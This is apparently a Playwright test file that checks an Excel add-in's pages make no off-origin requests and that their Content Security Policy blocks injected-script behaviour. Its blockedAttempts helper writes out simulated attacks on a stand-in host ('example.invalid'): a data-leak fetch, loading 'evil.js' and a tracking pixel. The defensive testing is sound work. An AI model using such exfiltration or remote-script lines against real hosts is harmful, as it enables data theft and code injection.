import { type Browser, chromium, type Page } from 'playwright-core';
import { describeWith } from '../support/programs';
import { type AddInServer, serveAddIn } from './add-in';
import { FAULTY } from './panel-page';
import { servePage, type WebServer } from './web-page';

/** Requests of a page that went to another origin than its own. */
function leaving(page: Page, origin: string): string[] {
  const left: string[] = [];
  page.on('request', (request) => {
    const url = request.url();
    if (/^https?:|^wss?:/.test(url) && !url.startsWith(origin)) left.push(url);
  });
  return left;
}

/** What a script that got in could try: each is stopped by the page's own policy. */
async function blockedAttempts(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const blocked: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      blocked.push(effectiveDirective),
    );
    await fetch('https://example.invalid/leak').catch(() => undefined);
    const script = document.createElement('script');
    script.src = 'https://example.invalid/evil.js';
    document.body.append(script);
    const image = new Image();
    image.src = 'https://example.invalid/pixel.png';
    await new Promise((resolve) => (image.onerror = resolve));
    return blocked;
  });
}

async function expectBlocked(page: Page): Promise<void> {
  const blocked = await blockedAttempts(page);
  expect(blocked).toEqual(expect.arrayContaining(['connect-src', 'script-src-elem', 'img-src']));
}

describeWith('chromium', 'no request leaves', (executablePath) => {
  let browser: Browser;
  let addIn: AddInServer;
  let web: WebServer;
  let asked = 0;
  let left = 0;

  beforeAll(async () => {
    [browser, addIn, web] = await Promise.all([
      chromium.launch({ executablePath, args: ['--no-sandbox'] }),
      serveAddIn(),
      servePage(),
    ]);
  });
  afterAll(async () => {
    await browser?.close();
    await addIn?.close();
    web?.close();
    process.stdout.write(`requests of the built pages: ${asked}, of which left their origin: ${left}\n`);
  });

  /** A page on which everything that is asked for is counted. */
  async function counted(path: string): Promise<{ page: Page; leftHere: string[] }> {
    addIn.show({ sheets: [FAULTY()] });
    const page = await browser.newPage();
    page.on('request', () => asked++);
    const leftHere = leaving(page, addIn.url);
    await page.goto(`${addIn.url}/${path}`);
    return { page, leftHere };
  }

  function expectNoneLeft(leftHere: readonly string[]): void {
    left += leftHere.length;
    expect(leftHere).toEqual([]);
  }

  test.each(['taskpane.html', 'commands.html', 'message.html', 'self-check.html', 'assets/help.html'])(
    '%s asks its own server only, and its policy stops what would go elsewhere',
    async (path) => {
      const { page, leftHere } = await counted(path);
      await page.waitForLoadState('networkidle');
      expectNoneLeft(leftHere);
      await expectBlocked(page);
      await page.close();
    },
    60_000,
  );

  test('the panel in use: settings, preview, writing', async () => {
    const { page, leftHere } = await counted('taskpane.html');
    await page.getByRole('button', { name: '计算等级' }).first().click({ timeout: 40_000 });
    await page.getByRole('button', { name: /^写入/ }).first().click({ timeout: 40_000 });
    await page.getByText('逐一读回核对').first().waitFor({ timeout: 40_000 });
    expectNoneLeft(leftHere);
    await page.close();
  }, 120_000);

  test('自检 in use', async () => {
    const { page, leftHere } = await counted('self-check.html');
    await page.getByRole('button', { name: '开始自检' }).click();
    await page.locator('#outcome').waitFor({ timeout: 60_000 });
    const json = JSON.parse(await page.locator('#json').inputValue()) as { results: unknown[] };
    expect(json.results.length).toBeGreaterThanOrEqual(25);
    expect(await page.locator('#results li').count()).toBe(json.results.length);
    expect(await page.locator('#state').textContent()).toMatch(/自检完成/);
    expectNoneLeft(leftHere);
    await page.close();
  }, 120_000);

  test('the page without Excel', async () => {
    const page = await browser.newPage();
    page.on('request', () => asked++);
    const leftHere = leaving(page, new URL(web.url).origin);
    await page.goto(`${web.url}?sample`);
    await page.waitForLoadState('networkidle');
    expectNoneLeft(leftHere);
    await expectBlocked(page);
    await page.close();
  }, 120_000);
});
